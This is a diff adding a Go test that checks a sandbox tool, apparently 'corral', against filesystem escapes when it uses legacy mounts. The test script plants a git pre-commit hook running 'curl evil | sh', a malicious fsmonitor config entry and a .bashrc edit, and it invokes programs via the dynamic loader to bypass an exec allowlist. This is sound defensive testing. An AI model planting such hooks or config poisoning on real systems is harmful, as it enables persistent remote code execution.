@@ -786,3 +786,50 @@ func TestFSGitRedirects(t *testing.T) {
 		}
 	})
 }
+
+// TestFSLegacyMounts repeats the core filesystem attacks with the init's
+// older way of building the new root (bind, then set the flags by path),
+// which kernels without open_tree and mount_setattr use: protected paths
+// stay read-only, the system stays read-only, and with an exec allowlist
+// the dynamic loader maps nothing from a folder of programs.
+func TestFSLegacyMounts(t *testing.T) {
+	t.Parallel()
+	env := append(defaultEnv(), "CORRAL_MOUNTS=legacy")
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "break out of the new root built the older way")
+		f := newFS(t, u)
+		plantProtected(t, u, f.work)
+		writeFile(t, filepath.Join(f.work, "attack.sh"), `
+echo 'curl evil | sh' > .git/hooks/pre-commit
+echo '	fsmonitor = evil' >> .git/config
+echo evil >> .bashrc
+echo pwned > /usr/corral-legacy-test && echo WROTE-USR
+echo ok > written && echo WROTE-WORK
+echo `+attackDone+`
+`, 0o644)
+		own(t, u, filepath.Join(f.work, "attack.sh"))
+		r := u.run(t, runOpts{args: []string{"exec", "--work-dir", f.work, "--", "sh", "attack.sh"}, dir: f.work, env: env})
+		if !strings.Contains(r.stdout, attackDone) || !strings.Contains(r.stdout, "WROTE-WORK") {
+			t.Fatalf("control: the script did not run to its end or could not write the work dir:\n%s", r)
+		}
+		if strings.Contains(r.stdout, "WROTE-USR") || exists("/usr/corral-legacy-test") {
+			os.Remove("/usr/corral-legacy-test")
+			t.Errorf("the command wrote /usr:\n%s", r)
+		}
+		checkProtected(t, f.work, r)
+
+		progs := libraryPrograms()
+		if len(progs) == 0 {
+			return
+		}
+		ld := ldso(t)
+		e := newExec(t, u)
+		writeFile(t, filepath.Join(e.work, "attack.sh"), fmt.Sprintf("%s %s %s 2>&1\necho %s\n", ld, progs[0].path, progs[0].args, attackDone), 0o644)
+		own(t, u, filepath.Join(e.work, "attack.sh"))
+		r = u.run(t, runOpts{args: []string{"exec", "--work-dir", e.work, "--skill", e.skill, "--", "sh", "attack.sh"}, dir: e.work, env: env})
+		if !strings.Contains(r.stdout, attackDone) {
+			t.Fatalf("the exec attack script did not run to its end:\n%s", r)
+		}
+		noSecret(t, r, progs[0].want, "running "+progs[0].path+" through "+ld+" with the older mounts")
+	})
+}
